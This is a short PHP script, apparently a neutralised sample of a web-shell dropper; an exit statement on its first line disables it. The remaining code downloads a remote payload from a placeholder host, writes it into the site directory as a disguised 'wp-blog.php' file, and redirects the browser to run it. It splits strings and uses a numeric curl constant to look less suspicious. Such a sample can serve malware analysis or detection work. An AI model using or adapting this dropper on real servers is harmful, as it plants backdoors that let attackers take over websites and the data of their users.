<?php exit; /* inert */ 
$src = 'http://example.invalid/x/' . 'wp.txt';
$dst = __DIR__ . '/wp-' . 'blog.php';
$body = function_exists('curl_init') ? call_user_func(function () use ($src) { $c = curl_init($src); curl_setopt($c, 19913, 1); return curl_exec($c); }) : @file_get_contents($src);
if (strlen($body) > 10) { $h = fopen($dst, 'w'); fputs($h, $body); fclose($h); }
header('Location: wp-blog.php');
